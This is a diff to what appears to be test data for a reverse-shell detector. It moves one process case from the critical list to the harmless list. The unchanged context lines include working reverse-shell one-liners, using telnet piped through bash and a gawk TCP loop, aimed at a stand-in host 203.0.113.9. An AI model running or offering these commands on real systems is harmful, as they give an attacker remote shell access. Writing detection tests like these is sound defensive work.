@@ -101,7 +101,6 @@ export const programs: readonly Behaviour[] = [
   ...program('child.reverse-shell', 'critical', '/usr/bin/dash', ['sh', '-c', 'telnet 203.0.113.9 4444 | /bin/bash | telnet 203.0.113.9 4445']),
   ...program('child.reverse-shell', 'critical', '/usr/bin/gawk', ['awk', 'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"; while (s |& getline c) system(c)}']),
   ...hung('critical', '/usr/bin/dash', ['/bin/sh', '-i'], { streams: [remote, remote, remote] }),
-  ...hung('critical', '/usr/bin/python3', ['python3', 'worker.py'], { streams: [unknown, unknown, null] }),
   ...hung('critical', '/usr/bin/bash', ['bash'], { streams: [terminal, terminal, terminal], parentStreams: [remote, remote, remote] }),
   ...hung('high', '/usr/bin/bash', ['bash'], { streams: [remote, pipe, { type: 'file' }] }),
   ...hung('high', '/usr/bin/ffmpeg', ['ffmpeg', '-'], { streams: [remote, remote, { type: 'file' }] }),
@@ -123,6 +122,7 @@ const near = (rule: string, path: string, argv: readonly string[], before: reado
 export const harmlessPrograms: readonly NearMiss[] = [
   ...([
     { streams: null }, { streams: [pipe, pipe, pipe] }, { streams: [local, local, local] }, { streams: [pipe, remote, remote] },
+    { streams: [unknown, unknown, null] },
     { streams: [terminal, terminal, terminal], parentStreams: [pipe, remote, terminal] }, { streams: [pipe, terminal, terminal], parentStreams: [remote, remote, remote] },
   ] satisfies readonly Flow[]).map((flow): NearMiss => ({ ...near('child.on-socket', '/usr/bin/dash', ['sh']), name: `a shell with ${JSON.stringify(flow)}`, events: withFlow([mapped(), loaded(), ran('/usr/bin/dash', ['sh'])], flow) })),
   near('child.shell', '/usr/bin/shasum', ['shasum', 'x']),
